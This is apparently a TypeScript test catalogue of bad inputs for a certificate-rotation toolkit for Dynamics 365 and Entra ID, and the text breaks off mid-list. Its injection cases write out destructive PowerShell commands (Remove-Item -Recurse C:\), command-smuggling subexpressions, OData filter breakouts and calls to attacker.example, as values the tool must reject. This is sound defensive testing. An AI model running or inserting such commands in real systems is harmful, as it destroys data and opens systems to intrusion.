/* eslint-disable @typescript-eslint/no-explicit-any -- the config cases mutate arbitrary parsed YAML documents */
// The bad-input catalogue: every kind of wrong input an admin (or an attacker with access to a pipeline's inputs)
// can hand the toolkit, each with the command it goes through, the field the error must name and the exit code.
// bad-input.test.ts runs each through the command line against the emulators and checks that nothing changed;
// docs/bad-input.md is generated from it (node --import tsx test/reliability/support/bad-input-doc.ts --write).
//
// The 55 bad configs of test/unit/config/bad-configs.ts are part of it by reference (area "config (unit
// catalogue)"): the unit test checks the validator's message, this suite runs the same documents end to end.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { makeCa, makeLeaf, makePfx, type TestCertificate } from '../../support/certs.js';
import { openssl } from '../../support/cert-openssl.js';
import { BAD_CONFIGS } from '../../unit/config/bad-configs.js';
import { PFX_BASE64_ENV, PFX_PASSWORD, PFX_PASSWORD_ENV, renewalCertificate, type World } from './world.js';
import { PHASE_IDS } from '../../../src/phases/phase.js';

export type Area =
  | 'certificate file'
  | 'certificate content'
  | 'secret'
  | 'config'
  | 'config (unit catalogue)'
  | 'injection'
  | 'command line';

export interface Invocation {
  argv: string[];
  /** Set on top of the world's environment ('' for a variable that is set but empty). */
  env?: Record<string, string>;
}

export interface Tools {
  world: World;
  /** Writes a file into the case's own folder; returns its path. */
  file(name: string, content: string | Buffer): string;
  /** The world's config with a change, written for this case; returns its path. */
  config(mutate: (doc: any) => void): string;
}

export interface BadInput {
  /** Unique and stable: area prefix and a slug. */
  id: string;
  area: Area;
  /** What is wrong, in words (the docs table). */
  input: string;
  /** How it is handed over (the docs table), e.g. "run --phase register-entra --pfx FILE". */
  command: string;
  /** The field, option, input or environment variable the error must name. */
  names: string;
  /** 1: refused (config or certificate problem, or a failed phase); 2: usage error (bad option or secret). */
  exit: 1 | 2;
  /** More the output must say. */
  says?: RegExp;
  invoke(tools: Tools): Invocation;
  /** Where the case is defined when it comes from another catalogue. */
  source?: string;
}

/** A certificate problem that only warns: exit 0 by the public contract of cert inspect; listed, not counted. */
export interface WarningInput {
  id: string;
  code: string;
  input: string;
  pfx(): Buffer;
}

const DAY = 86_400_000;
const days = (n: number) => new Date(Date.now() + n * DAY);
const pfxArgs = (file: string) => ['--pfx', file, '--password-env', PFX_PASSWORD_ENV];

// ---------------------------------------------------------------- certificates (made once, on first use)

function lazy<T>(make: () => T): () => T {
  let value: T | undefined;
  return () => (value ??= make());
}

const forgePfx = (cert: TestCertificate, options: Partial<Parameters<typeof makePfx>[1]> = {}) =>
  makePfx(cert, { password: PFX_PASSWORD, encoding: 'forge-3des', ...options });

export const certificates = {
  renewal: () => renewalCertificate().pfx,
  keyTooSmall: lazy(() => forgePfx(makeLeaf({ keySlot: 'bad-1024', rsaBits: 1024 }))),
  ecKey: lazy(() =>
    makePfx(makeLeaf({ keySlot: 'bad-ec', keyType: 'ec' }), { password: PFX_PASSWORD, encoding: 'openssl-default' }),
  ),
  sha1: lazy(() => forgePfx(makeLeaf({ keySlot: 'reliability-renewal', signatureHash: 'sha1' }))),
  expired: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal', notBefore: days(-400), notAfter: days(-2) })),
  ),
  notYetValid: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal', notBefore: days(3), notAfter: days(200) })),
  ),
  expiresSoon: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal', notBefore: days(-100), notAfter: days(5) })),
  ),
  otherHost: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal', commonName: 'intranet.fabrikam.example' })),
  ),
  noKey: lazy(() => forgePfx(makeLeaf({ keySlot: 'reliability-renewal' }), { key: null })),
  keyMismatch: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal' }), {
      key: makeLeaf({ keySlot: 'bad-other-key' }).privateKey,
    }),
  ),
  chainIncomplete: lazy(() =>
    forgePfx(makeLeaf({ keySlot: 'reliability-renewal', issuer: makeCa({ keySlot: 'bad-ca' }) })),
  ),
  noServerAuth: lazy(() => forgePfx(makeLeaf({ keySlot: 'reliability-renewal', extendedKeyUsage: ['clientAuth'] }))),
  pemText: lazy(() => {
    const cert = makeLeaf({ keySlot: 'reliability-renewal' });
    return Buffer.from(cert.pem + cert.privateKeyPem);
  }),
  derCertificate: lazy(() => makeLeaf({ keySlot: 'reliability-renewal' }).der),
  pkcs7: lazy(() => {
    const cert = makeLeaf({ keySlot: 'reliability-renewal' });
    return openssl(['crl2pkcs7', '-nocrl', '-outform', 'DER'], { input: Buffer.from(cert.pem) });
  }),
};

/** Deterministic noise (a "PFX" from a broken download). */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let x = 0x2545f491;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    bytes[i] = x & 0xff;
  }
  bytes[0] = 0x42; // not 0x30: not even the start of DER
  return bytes;
}

// ---------------------------------------------------------------- the catalogue

const WRITERS = ['register-entra', 'install-certificate', 'configure-crm'] as const;
const writer = (i: number) => WRITERS[i % WRITERS.length]!;

interface CertificateContentCase {
  slug: string;
  code: string;
  input: string;
  pfx: () => Buffer;
  password?: string;
}

const CERTIFICATE_CONTENT: CertificateContentCase[] = [
  {
    slug: 'bad-password',
    code: 'PFX_BAD_PASSWORD',
    input: 'the wrong PFX password',
    pfx: certificates.renewal,
    password: 'Not-The-Password-31b',
  },
  {
    slug: 'no-private-key',
    code: 'PFX_NO_PRIVATE_KEY',
    input: 'a PFX with the certificate but without its private key',
    pfx: certificates.noKey,
  },
  {
    slug: 'key-mismatch',
    code: 'PFX_KEY_MISMATCH',
    input: "a PFX whose private key is another certificate's",
    pfx: certificates.keyMismatch,
  },
  {
    slug: 'ec-key',
    code: 'KEY_NOT_RSA',
    input: 'an ECDSA (P-256) certificate: D365 S2S needs RSA',
    pfx: certificates.ecKey,
  },
  { slug: 'rsa-1024', code: 'KEY_TOO_SMALL', input: 'an RSA key of 1024 bits', pfx: certificates.keyTooSmall },
  { slug: 'sha1-signature', code: 'SIGNATURE_SHA1', input: 'a certificate signed with SHA-1', pfx: certificates.sha1 },
  {
    slug: 'expired',
    code: 'CERT_EXPIRED',
    input: 'a certificate that expired two days ago',
    pfx: certificates.expired,
  },
  {
    slug: 'not-yet-valid',
    code: 'CERT_NOT_YET_VALID',
    input: 'a certificate valid from three days from now',
    pfx: certificates.notYetValid,
  },
  {
    slug: 'expires-soon',
    code: 'CERT_EXPIRES_SOON',
    input: 'a certificate with 5 days left (certificate.minDaysRemaining: 14)',
    pfx: certificates.expiresSoon,
  },
  {
    slug: 'host-not-covered',
    code: 'HOST_NOT_COVERED',
    input: 'a certificate for intranet.fabrikam.example, not crm.contoso.com',
    pfx: certificates.otherHost,
  },
];

interface CertificateFileCase {
  slug: string;
  input: string;
  /** null: the path does not exist; 'dir': a folder. */
  content: (() => Buffer) | null | 'dir';
  names: (file: string) => string;
  exit: 1 | 2;
  says: RegExp;
}

const base64Text = () => certificates.renewal().toString('base64');

const CERTIFICATE_FILES: CertificateFileCase[] = [
  {
    slug: 'missing',
    input: 'a path that does not exist',
    content: null,
    names: () => '--pfx',
    exit: 2,
    says: /does not exist/,
  },
  {
    slug: 'folder',
    input: 'a folder instead of a file',
    content: 'dir',
    names: () => '--pfx',
    exit: 2,
    says: /is not a file/,
  },
  {
    slug: 'empty',
    input: 'an empty file (0 bytes)',
    content: () => Buffer.alloc(0),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /empty/,
  },
  {
    slug: 'noise',
    input: 'random bytes (a broken download)',
    content: () => noise(2600),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /PFX|PKCS#12/,
  },
  {
    slug: 'truncated',
    input: 'a PFX cut off after half its bytes',
    content: () => certificates.renewal().subarray(0, 1300),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /PFX_UNREADABLE/,
  },
  {
    slug: 'truncated-tail',
    input: 'a PFX missing its last 20 bytes (the MAC)',
    content: () => certificates.renewal().subarray(0, certificates.renewal().length - 20),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /PFX_UNREADABLE/,
  },
  {
    slug: 'pem',
    input: 'PEM text (certificate and key) instead of a PFX',
    content: certificates.pemText,
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /PEM/,
  },
  {
    slug: 'der-certificate',
    input: 'a single DER certificate (.cer) without its key',
    content: certificates.derCertificate,
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /single certificate/,
  },
  {
    slug: 'pkcs7',
    input: 'a PKCS#7 bundle (.p7b)',
    content: certificates.pkcs7,
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /PKCS#7/,
  },
  {
    slug: 'base64-text',
    input: 'the PFX as base64 text in a file (not decoded)',
    content: () => Buffer.from(base64Text()),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /base64/,
  },
  {
    slug: 'utf16-base64',
    input: 'the base64 saved as UTF-16LE with a BOM (Windows PowerShell 5.1 `>`)',
    content: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(base64Text(), 'utf16le')]),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /UTF-16LE/,
  },
  {
    slug: 'utf8-bom-base64',
    input: 'the base64 saved as UTF-8 with a BOM',
    content: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(base64Text())]),
    names: () => 'PFX_UNREADABLE',
    exit: 1,
    says: /UTF-8 with BOM/,
  },
  {
    slug: 'huge',
    input: 'a 2 MB file (the wrong file)',
    content: () => noise(2 * 1024 * 1024),
    names: () => '--pfx',
    exit: 2,
    says: /far too large/,
  },
];

interface SecretCase {
  slug: string;
  input: string;
  value: () => string;
  says: RegExp;
}

const wrapped = (text: string, width: number, eol = '\n') =>
  (text.match(new RegExp(`.{1,${width}}`, 'g')) ?? []).join(eol);

const BASE64_SECRETS: SecretCase[] = [
  { slug: 'whitespace', input: 'a secret of only spaces and a line break', value: () => '  \n', says: /is empty/ },
  {
    slug: 'wrapped-76',
    input: 'base64 wrapped at 76 columns (MIME, `base64` without -w0)',
    value: () => wrapped(base64Text(), 76),
    says: /line break/,
  },
  {
    slug: 'wrapped-64-crlf',
    input: 'base64 wrapped at 64 columns with CRLF (certutil -encode)',
    value: () => wrapped(base64Text(), 64, '\r\n'),
    says: /line break/,
  },
  {
    slug: 'data-url',
    input: 'a data-URL prefix (data:application/x-pkcs12;base64,)',
    value: () => 'data:application/x-pkcs12;base64,' + base64Text(),
    says: /data-URL/,
  },
  {
    slug: 'typographic-quotes',
    input: 'the base64 in typographic quotes “…” pasted from a web page',
    value: () => `\u201C${base64Text()}\u201D`,
    says: /typographic quote/,
  },
  { slug: 'plain-quotes', input: 'the base64 in plain quotes "…"', value: () => `"${base64Text()}"`, says: /quotes/ },
  {
    slug: 'pem',
    input: 'PEM text instead of base64 of a PFX',
    value: () => certificates.pemText().toString('utf8'),
    says: /PEM/,
  },
  {
    slug: 'url-safe',
    input: 'the URL-safe base64 alphabet (- and _)',
    value: () => certificates.renewal().toString('base64url').replace(/[+/]/g, '') + '-_',
    says: /URL-safe/,
  },
  {
    slug: 'not-base64',
    input: 'a character outside base64 (*)',
    value: () => base64Text().slice(0, 100) + '*' + base64Text().slice(101),
    says: /not base64/,
  },
  { slug: 'cut-off', input: 'base64 cut off (length 4n+1)', value: () => base64Text().slice(0, 401), says: /cut off/ },
  {
    slug: 'double-encoded',
    input: 'base64 of the base64 (encoded twice)',
    value: () => Buffer.from(base64Text()).toString('base64'),
    says: /twice/,
  },
  {
    slug: 'base64-of-pem',
    input: 'base64 of a PEM file',
    value: () => certificates.pemText().toString('base64'),
    says: /decodes to PEM/,
  },
];

/** Secrets and inputs that carry command or query syntax: none may reach PowerShell, OData or a store. */
interface InjectionConfigCase {
  slug: string;
  input: string;
  names: string;
  phase: string;
  mutate: (doc: any) => void;
  extra?: (world: World) => string[];
}

const ps = "'; Remove-Item -Recurse -Force C:\\ ; '";
const INJECTION_CONFIGS: InjectionConfigCase[] = [
  {
    slug: 'url-statement',
    input: `deployment.url ending in ${ps}`,
    names: 'deployment.url',
    phase: 'configure-adfs',
    mutate: (d) => (d.deployment.url = `https://crm.contoso.com/contoso${ps}`),
  },
  {
    slug: 'url-subexpression',
    input: 'deployment.url with $(Remove-Item …)',
    names: 'deployment.url',
    phase: 'configure-adfs',
    mutate: (d) => (d.deployment.url = 'https://crm.contoso.com/$(Remove-Item -Recurse C:\\)'),
  },
  {
    slug: 'url-backtick',
    input: 'deployment.url with a backtick escape (`n)',
    names: 'deployment.url',
    phase: 'configure-mailboxes',
    mutate: (d) => (d.deployment.url = 'https://crm.contoso.com/contoso`nRemove-Item'),
  },
  {
    slug: 'webapi-url-newline',
    input: 'deployment.webApi.url with a line break and a second command',
    names: 'deployment.webApi.url',
    phase: 'configure-mailboxes',
    mutate: (d) => (d.deployment.webApi.url += '\nRemove-Item -Recurse C:\\'),
  },
  {
    slug: 'tools-path-statement',
    input: `deployment.toolsPath ending in ${ps}`,
    names: 'deployment.toolsPath',
    phase: 'configure-crm',
    mutate: (d) => (d.deployment.toolsPath = `C:\\Program Files\\Microsoft Dynamics CRM\\Tools${ps}`),
  },
  {
    slug: 'tools-path-subexpression',
    input: 'deployment.toolsPath with $(…)',
    names: 'deployment.toolsPath',
    phase: 'configure-crm',
    mutate: (d) => (d.deployment.toolsPath = 'C:\\Tools\\$(Invoke-WebRequest https://attacker.example)'),
  },
  {
    slug: 'tools-path-backtick',
    input: 'deployment.toolsPath with a backtick',
    names: 'deployment.toolsPath',
    phase: 'configure-crm',
    mutate: (d) => (d.deployment.toolsPath = 'C:\\Tools`\\Remove-Item'),
  },
  {
    slug: 'account-subexpression',
    input: 'deployment.serviceAccounts.web = CONTOSO\\$(rm -rf)',
    names: 'deployment.serviceAccounts.web',
    phase: 'install-certificate',
    mutate: (d) => (d.deployment.serviceAccounts.web = 'CONTOSO\\$(rm -rf)'),
  },
  {
    slug: 'account-backtick',
    input: 'deployment.serviceAccounts.async with a backtick',
    names: 'deployment.serviceAccounts.async',
    phase: 'install-certificate',
    mutate: (d) => (d.deployment.serviceAccounts.async = 'CONTOSO\\svc`async'),
  },
  {
    slug: 'account-upn-subexpression',
    input: 'a UPN service account $(whoami)@contoso.com',
    names: 'deployment.serviceAccounts.async',
    phase: 'configure-crm',
    mutate: (d) => (d.deployment.serviceAccounts.async = '$(whoami)@contoso.com'),
  },
  {
    slug: 'site-name-statement',
    input: `deployment.iis.siteName ending in ${ps}`,
    names: 'deployment.iis.siteName',
    phase: 'install-certificate',
    mutate: (d) => (d.deployment.iis = { rebindHttps: true, siteName: `Microsoft Dynamics CRM${ps}` }),
  },
  {
    slug: 'profile-name-newline',
    input: 'email.profile.name with a line break',
    names: 'email.profile.name',
    phase: 'configure-mailboxes',
    mutate: (d) => (d.email.profile = { name: 'Exchange Online (Hybrid)\nRemove-Item' }),
  },
  {
    slug: 'filter-breakout',
    input: "email.mailboxes.filter closing the toolkit's parentheses: statecode eq 0) or (statecode eq 1",
    names: 'email.mailboxes.filter',
    phase: 'configure-mailboxes',
    mutate: (d) => Object.assign(d.email.mailboxes, { select: 'filter', filter: 'statecode eq 0) or (statecode eq 1' }),
  },
  {
    slug: 'filter-query-option',
    input: 'email.mailboxes.filter with &$top=1 appended',
    names: 'email.mailboxes.filter',
    phase: 'configure-mailboxes',
    mutate: (d) => Object.assign(d.email.mailboxes, { select: 'filter', filter: 'statecode eq 0&$top=1' }),
  },
  {
    slug: 'filter-open-string',
    input: "email.mailboxes.filter with an unterminated string: emailaddress eq 'x",
    names: 'email.mailboxes.filter',
    phase: 'verify',
    mutate: (d) => Object.assign(d.email.mailboxes, { select: 'filter', filter: "emailaddress eq 'x" }),
  },
  {
    slug: 'filter-newline',
    input: 'email.mailboxes.filter with a line break',
    names: 'email.mailboxes.filter',
    phase: 'configure-mailboxes',
    mutate: (d) => Object.assign(d.email.mailboxes, { select: 'filter', filter: 'statecode eq 0\nor true' }),
  },
  {
    slug: 'address-quote',
    input: "an address closing the OData string: a@contoso.com' or '1' eq '1",
    names: 'email.mailboxes.addresses.0',
    phase: 'configure-mailboxes',
    mutate: (d) =>
      Object.assign(d.email.mailboxes, { select: 'addresses', addresses: ["a@contoso.com' or '1' eq '1"] }),
  },
  {
    slug: 'address-in-breakout',
    input: "an address closing the In() list: x'])@contoso.com",
    names: 'email.mailboxes.addresses.0',
    phase: 'verify',
    mutate: (d) => Object.assign(d.email.mailboxes, { select: 'addresses', addresses: ["x'])@contoso.com"] }),
  },
  {
    slug: 's2s-metadata-url',
    input: 'tenant.endpoints.s2sMetadataUrl with ;rm;',
    names: 'tenant.endpoints.s2sMetadataUrl',
    phase: 'configure-crm',
    mutate: (d) =>
      (d.tenant.endpoints.s2sMetadataUrl = "https://accounts.accesscontrol.windows.net/';rm;'/metadata/json/1"),
  },
  {
    slug: 'role-identifier',
    input: 'adfs.serverRoleIdentifier with $(…)',
    names: 'adfs.serverRoleIdentifier',
    phase: 'configure-adfs',
    mutate: (d) => (d.adfs.serverRoleIdentifier = 'https://auth.contoso.com:444/$(Remove-Item C:\\)/'),
  },
  {
    slug: 'organization',
    input: `deployment.organization = contoso${ps}`,
    names: 'deployment.organization',
    phase: 'configure-crm',
    mutate: (d) => (d.deployment.organization = `contoso${ps}`),
  },
  {
    slug: 'server-name',
    input: "a server name CRMAPP01'; Remove-Item",
    names: 'deployment.servers.0.name',
    phase: 'install-certificate',
    mutate: (d) => (d.deployment.servers[0].name = "CRMAPP01'; Remove-Item"),
  },
  {
    slug: 'secret-env-statement',
    input: 'tenant.auth.secretEnv holding a command instead of a variable name',
    names: 'tenant.auth.secretEnv',
    phase: 'register-entra',
    mutate: (d) => (d.tenant.auth.secretEnv = 'X; curl https://attacker.example'),
  },
];

interface InjectionSetCase {
  slug: string;
  input: string;
  phase: string;
  set: (world: World) => string[];
  names: string;
  says?: RegExp;
  exit?: 1 | 2;
  /** Run with a config that leaves the value to the input (tenant.domain instead of tenant.id). */
  domainConfig?: boolean;
  withPfx?: boolean;
}

const INJECTION_SETS: InjectionSetCase[] = [
  {
    slug: 'tenant-id-odata',
    input: "--set tenant-id=x' or 1 eq 1 (config with tenant.domain)",
    phase: 'configure-mailboxes',
    set: () => ["tenant-id=x' or 1 eq 1"],
    names: 'tenant-id',
    says: /not a GUID/,
    domainConfig: true,
  },
  {
    slug: 'tenant-id-statement',
    input: `--set tenant-id=<GUID>${ps}`,
    phase: 'configure-mailboxes',
    set: () => [`tenant-id=11111111-2222-3333-4444-555555555555${ps}`],
    names: 'tenant-id',
    says: /not a GUID/,
    domainConfig: true,
  },
  {
    slug: 'tenant-id-other',
    input: '--set tenant-id of another tenant than tenant.id',
    phase: 'configure-mailboxes',
    set: () => ['tenant-id=99999999-2222-3333-4444-555555555555'],
    names: 'tenant-id',
    says: /not the configured tenant\.id/,
  },
  {
    slug: 'tenant-id-crm',
    input: '--set tenant-id=$(Get-Credential) for configure-crm',
    phase: 'configure-crm',
    set: () => ['tenant-id=$(Get-Credential)'],
    names: 'tenant-id',
    says: /not a GUID/,
    withPfx: true,
  },
  {
    slug: 'organization-id',
    input: "--set organization-id=x'); Remove-Item C:\\",
    phase: 'configure-adfs',
    set: () => ['server=ADFS01', "organization-id=x'); Remove-Item C:\\"],
    names: 'organization-id',
    says: /not a GUID/,
  },
  {
    slug: 'thumbprint-subexpression',
    input: '--set thumbprint=$(Remove-Item C:\\) without the PFX',
    phase: 'configure-crm',
    set: () => ['thumbprint=$(Remove-Item C:\\)'],
    names: 'thumbprint',
    says: /not a SHA-1 thumbprint/,
  },
  {
    slug: 'thumbprint-newline',
    input: '--set thumbprint=<40 hex> + a line break and a command',
    phase: 'retire-previous',
    set: () => ['verified=true', 'thumbprint=' + 'A'.repeat(40) + '\nRemove-Item C:\\'],
    names: 'thumbprint',
    says: /not a SHA-1 thumbprint/,
  },
  {
    slug: 'server',
    input: `--set server=CRMAPP01${ps}`,
    phase: 'install-certificate',
    set: () => [`server=CRMAPP01${ps}`],
    names: 'server',
    says: /not one of them/,
    withPfx: true,
  },
  {
    slug: 'verified',
    input: '--set verified=true; Remove-Item C:\\',
    phase: 'retire-previous',
    set: () => ['verified=true; Remove-Item C:\\'],
    names: 'verified',
    says: /verified=true/,
    withPfx: true,
  },
  {
    slug: 'verified-thumbprint',
    input: '--set verified-thumbprint=`$(whoami)` (not the current certificate)',
    phase: 'retire-previous',
    set: () => ['verified=true', 'verified-thumbprint=`$(whoami)`'],
    names: 'verify passed for',
    withPfx: true,
  },
  {
    slug: 'retest',
    input: '--set retest=$(whoami)',
    phase: 'verify',
    set: () => ['retest=$(whoami)'],
    names: 'retest',
    says: /true or false/,
  },
  {
    slug: 'set-no-value',
    input: '--set tenant-id (no =value)',
    phase: 'configure-mailboxes',
    set: () => ['tenant-id'],
    names: '--set',
    exit: 2,
  },
  {
    slug: 'set-bad-name',
    input: '--set "Tenant Id=…" (not a name)',
    phase: 'configure-mailboxes',
    set: () => ['Tenant Id=11111111-2222-3333-4444-555555555555'],
    names: '--set',
    exit: 2,
  },
];

export const CATALOGUE: BadInput[] = [];

// Certificate content: every error code of cert inspect, through cert inspect and through a phase that would write it.
CERTIFICATE_CONTENT.forEach((c, i) => {
  const password = c.password;
  CATALOGUE.push({
    id: `certificate/${c.slug}/inspect`,
    area: 'certificate content',
    input: c.input,
    command: 'cert inspect --pfx FILE --host crm.contoso.com --json',
    names: c.code,
    exit: 1,
    invoke: (t) => ({
      argv: ['cert', 'inspect', ...pfxArgs(t.file(`${c.slug}.pfx`, c.pfx())), '--host', 'crm.contoso.com', '--json'],
      ...(password ? { env: { [PFX_PASSWORD_ENV]: password } } : {}),
    }),
  });
  CATALOGUE.push({
    id: `certificate/${c.slug}/${writer(i)}`,
    area: 'certificate content',
    input: c.input,
    command: `run --phase ${writer(i)} --pfx FILE`,
    names: c.code,
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', writer(i), ...pfxArgs(t.file(`${c.slug}.pfx`, c.pfx()))],
      ...(password ? { env: { [PFX_PASSWORD_ENV]: password } } : {}),
    }),
  });
});

CERTIFICATE_FILES.forEach((c, i) => {
  const make = (t: Tools) => {
    if (c.content === null) return join(t.world.dir, `no-such-${c.slug}.pfx`);
    if (c.content === 'dir') {
      const dir = join(t.world.dir, 'a-folder.pfx');
      mkdirSync(dir, { recursive: true });
      return dir;
    }
    return t.file(`${c.slug}.pfx`, c.content());
  };
  CATALOGUE.push({
    id: `certificate-file/${c.slug}`,
    area: 'certificate file',
    input: c.input,
    command: i % 2 ? 'cert inspect --pfx FILE' : `run --phase ${writer(i)} --pfx FILE`,
    names: c.names(''),
    exit: c.exit,
    says: c.says,
    invoke: (t) => ({
      argv:
        i % 2
          ? ['cert', 'inspect', ...pfxArgs(make(t))]
          : ['run', '--config', t.world.configFile, '--phase', writer(i), ...pfxArgs(make(t))],
    }),
  });
});

BASE64_SECRETS.forEach((c, i) => {
  CATALOGUE.push({
    id: `secret/pfx-base64-${c.slug}`,
    area: 'secret',
    input: `PFX secret: ${c.input}`,
    command: `run --phase ${writer(i)} --pfx-base64-env VAR`,
    names: `environment variable ${PFX_BASE64_ENV}`,
    exit: 2,
    says: c.says,
    invoke: (t) => ({
      argv: [
        'run',
        '--config',
        t.world.configFile,
        '--phase',
        writer(i),
        '--pfx-base64-env',
        PFX_BASE64_ENV,
        '--password-env',
        PFX_PASSWORD_ENV,
      ],
      env: { [PFX_BASE64_ENV]: c.value() },
    }),
  });
});

CATALOGUE.push(
  {
    id: 'secret/pfx-base64-empty',
    area: 'secret',
    input: 'PFX secret: an empty secret (the variable is set to "")',
    command: 'run --phase register-entra --pfx-base64-env VAR',
    names: '--pfx-base64-env',
    exit: 2,
    says: /is empty/,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'register-entra', '--pfx-base64-env', PFX_BASE64_ENV],
      env: { [PFX_BASE64_ENV]: '' },
    }),
  },
  {
    id: 'secret/pfx-base64-unset',
    area: 'secret',
    input: 'PFX secret: the variable it names is not set',
    command: 'plan --pfx-base64-env VAR',
    names: '--pfx-base64-env',
    exit: 2,
    says: /not set/,
    invoke: (t) => ({ argv: ['plan', '--config', t.world.configFile, '--pfx-base64-env', 'NO_SUCH_VARIABLE_7A'] }),
  },
  {
    id: 'secret/password-empty',
    area: 'secret',
    input: 'PFX password: the variable is set to ""',
    command: 'run --phase install-certificate --pfx FILE --password-env VAR',
    names: '--password-env',
    exit: 2,
    says: /is empty/,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'install-certificate', ...pfxArgs(t.world.pfxFile)],
      env: { [PFX_PASSWORD_ENV]: '' },
    }),
  },
  {
    id: 'secret/password-statement',
    area: 'secret',
    input: `PFX password: ${ps} (a wrong password carrying a command)`,
    command: 'run --phase install-certificate --pfx FILE --password-env VAR',
    names: 'PFX_BAD_PASSWORD',
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'install-certificate', ...pfxArgs(t.world.pfxFile)],
      env: { [PFX_PASSWORD_ENV]: ps },
    }),
  },
  {
    id: 'secret/password-subexpression',
    area: 'secret',
    input: 'PFX password: $(Remove-Item -Recurse C:\\) with a backtick `n (wrong)',
    command: 'run --phase configure-crm --pfx FILE --password-env VAR',
    names: 'PFX_BAD_PASSWORD',
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'configure-crm', ...pfxArgs(t.world.pfxFile)],
      env: { [PFX_PASSWORD_ENV]: '$(Remove-Item -Recurse C:\\)`n' },
    }),
  },
  {
    id: 'secret/password-on-command-line',
    area: 'secret',
    input: 'the PFX password on the command line (--password VALUE)',
    command: 'cert inspect --pfx FILE --password VALUE',
    names: '--password',
    exit: 2,
    says: /never go on the command line/,
    invoke: (t) => ({ argv: ['cert', 'inspect', '--pfx', t.world.pfxFile, '--password', PFX_PASSWORD] }),
  },
  {
    id: 'secret/password-env-value',
    area: 'secret',
    input: 'the password itself given to --password-env (not a variable name)',
    command: 'cert inspect --pfx FILE --password-env VALUE',
    names: '--password-env',
    exit: 2,
    says: /NAME of an environment variable/,
    invoke: (t) => ({
      argv: ['cert', 'inspect', '--pfx', t.world.pfxFile, '--password-env', 'hunter2 is my password!'],
    }),
  },
  {
    id: 'secret/client-secret-empty',
    area: 'secret',
    input: 'the Entra client secret variable (tenant.auth.secretEnv) is empty',
    command: 'run --phase register-entra --pfx FILE',
    names: 'CRM_SYNC_CLIENT_SECRET',
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'register-entra', ...pfxArgs(t.world.pfxFile)],
      env: { CRM_SYNC_CLIENT_SECRET: '' },
    }),
  },
  {
    id: 'secret/client-secret-statement',
    area: 'secret',
    input: `the Entra client secret is ${ps} (wrong, carrying a command)`,
    command: 'run --phase retire-previous --pfx FILE --set verified=true',
    names: '7d9e1f3a-2b4c-4d6e-8f0a-1b3c5d7e9f2a',
    exit: 1,
    says: /Signing in to Entra ID failed/,
    invoke: (t) => ({
      argv: [
        'run',
        '--config',
        t.world.configFile,
        '--phase',
        'retire-previous',
        ...pfxArgs(t.world.pfxFile),
        '--set',
        'verified=true',
      ],
      env: { CRM_SYNC_CLIENT_SECRET: ps },
    }),
  },
  {
    id: 'secret/d365-password-empty',
    area: 'secret',
    input: 'the D365 service account password variable (deployment.webApi.passwordEnv) is empty',
    command: 'run --phase configure-mailboxes',
    names: 'deployment.webApi.passwordEnv',
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'configure-mailboxes'],
      env: { CRM_SYNC_PASSWORD: '' },
    }),
  },
  {
    id: 'secret/d365-password-subexpression',
    area: 'secret',
    input: 'the D365 service account password is $(Get-Credential) (wrong, carrying a command)',
    command: 'run --phase configure-mailboxes',
    names: 'invalid_grant',
    exit: 1,
    invoke: (t) => ({
      argv: ['run', '--config', t.world.configFile, '--phase', 'configure-mailboxes'],
      env: { CRM_SYNC_PASSWORD: '$(Get-Credential)' },
    }),
  },
);

// Configs: formats of the fields the unit catalogue does not reach, keys, sections and files.
interface ConfigCase {
  slug: string;
  input: string;
  names: string;
  says?: RegExp;
  mutate?: (doc: any) => void;
  /** The file's raw text instead of a mutation of the world's config. */
  text?: (world: World) => string;
  fileName?: string;
}

const CONFIGS: ConfigCase[] = [
  {
    slug: 'webapi-url-http',
    input: 'deployment.webApi.url over http://',
    names: 'deployment.webApi.url',
    mutate: (d) => (d.deployment.webApi.url = d.deployment.webApi.url.replace('https:', 'http:')),
  },
  {
    slug: 'token-endpoint-not-url',
    input: 'deployment.webApi.tokenEndpoint = sts.contoso.com/adfs/oauth2/token (no scheme)',
    names: 'deployment.webApi.tokenEndpoint',
    mutate: (d) => (d.deployment.webApi.tokenEndpoint = 'sts.contoso.com/adfs/oauth2/token'),
  },
  {
    slug: 'webapi-client-id',
    input: 'deployment.webApi.clientId = the app name, not a GUID',
    names: 'deployment.webApi.clientId',
    mutate: (d) => (d.deployment.webApi.clientId = 'd365-exo-sync'),
  },
  {
    slug: 'webapi-resource-query',
    input: 'deployment.webApi.resource with a query string',
    names: 'deployment.webApi.resource',
    mutate: (d) => (d.deployment.webApi.resource = 'https://crm.contoso.com/?x=1'),
  },
  {
    slug: 'password-env-value',
    input: 'deployment.webApi.passwordEnv = the password itself',
    names: 'deployment.webApi.passwordEnv',
    mutate: (d) => (d.deployment.webApi.passwordEnv = 'Winter2026!'),
  },
  {
